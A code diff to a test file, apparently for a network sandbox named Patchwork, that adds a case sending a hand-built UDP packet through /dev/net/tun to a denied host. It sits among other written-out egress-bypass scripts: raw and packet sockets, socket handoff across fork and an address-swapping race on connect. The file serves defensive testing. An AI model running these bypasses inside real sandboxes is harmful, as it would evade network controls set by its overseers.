@@ -1,5 +1,6 @@
 /** Denied hosts, by many ways: nothing reaches them, as the capture outside tells; each way works without Patchwork. */
 import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
 import { after, before, test } from 'node:test';
 import { whyNoGuard } from '../support/guarded.ts';
 import { runBatch } from './support/batch.ts';
@@ -89,6 +90,7 @@ const WAYS: readonly (readonly [id: string, script: string, reason?: RegExp])[] 
   ['tcp-53-other', python(`import socket\ns = socket.create_connection(('${DENIED}', 53), 3); s.sendall(b'\\x00\\x04leak'); s.settimeout(1)\ntry: print('ANSWERED' if s.recv(100) else 'closed')\nexcept OSError as e: print(e)`)],
   ['icmp', `ping -c 1 -W 1 ${DENIED} | grep "1 received" | sed s/^/ANSWERED/`],
   ['raw', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(b'leak-raw', ('${DENIED}', 0)); print('ECHO')`)],
+  ['tunnel-device', python(`import fcntl, os, socket, struct\nfd = os.open('/dev/net/tun', os.O_RDWR); fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH22x', b'pwt', 0x1001))\nudp = struct.pack('!HHHH', 9, ${UDP_PORT}, 16, 0) + b'leak-tun'; head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton('10.99.0.2'), socket.inet_aton('${DENIED}'))\nt = sum(struct.unpack('!10H', head)); t = (t & 0xffff) + (t >> 16)\nos.write(fd, head[:10] + struct.pack('!H', 0xffff ^ (t & 0xffff) ^ 0) + head[12:] + udp); print('ECHO')`), /a device of the network/],
   ['packet', python(`import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('pw0', 0x0800)); s.send(b'\\xff' * 12 + b'\\x08\\x00' + b'leak-packet' * 4); print('ECHO')`)],
   ['socket-handed-over', python(`${PLAIN}import os, array\na, b = socket.socketpair()\nif os.fork() == 0:\n  s = socket.socket(); socket.send_fds(a, [b'x'], [s.fileno()]); os._exit(0)\n_, fds, _, _ = socket.recv_fds(b, 1, 1)\ns = socket.socket(fileno=fds[0]); s.connect(('${DENIED}', 80)); http(s, b'denied.test')`), /denied/],
   ['address-race', python(`${PLAIN}import ctypes, threading, struct\nlibc = ctypes.CDLL(None, use_errno=True)\ngood = struct.pack('!HH4s8x', 0, 443, socket.inet_aton(socket.gethostbyname('allowed.test'))); good = struct.pack('=H', 2) + good[2:]\nbad = good[:2] + struct.pack('!H', 80) + socket.inet_aton('${DENIED}') + good[8:]\nbuf = ctypes.create_string_buffer(good, 16); stop = []\ndef flip():\n  while not stop: ctypes.memmove(buf, bad, 16); ctypes.memmove(buf, good, 16)\nt = threading.Thread(target=flip); t.start(); hit = 0\nfor i in range(150):\n  s = socket.socket(); s.settimeout(2)\n  if libc.connect(s.fileno(), buf, 16) == 0 and s.getpeername()[0] == '${DENIED}':\n    try: http(s, b'denied.test'); hit += 1\n    except OSError: pass\n  s.close()\nstop.append(1); t.join(); print(hit)`)],
@@ -116,7 +118,7 @@ before(async () => {
 after(() => bed?.close());
 
 for (const [id, , reason] of WAYS) {
-  test(`denied: ${id}`, { skip }, () => {
+  test(`denied: ${id}`, { skip: skip === false && id === 'tunnel-device' && !existsSync('/dev/net/tun') ? 'there is no /dev/net/tun' : skip }, () => {
     if (!SHOWS_NOTHING.has(id)) assert.match(bare.get(id)?.out ?? '', REACHED, 'it works without Patchwork');
     assert.doesNotMatch(governed.get(id)?.out ?? '', REACHED);
     if (reason !== undefined) assert.match(governed.get(id)?.out ?? '', reason);
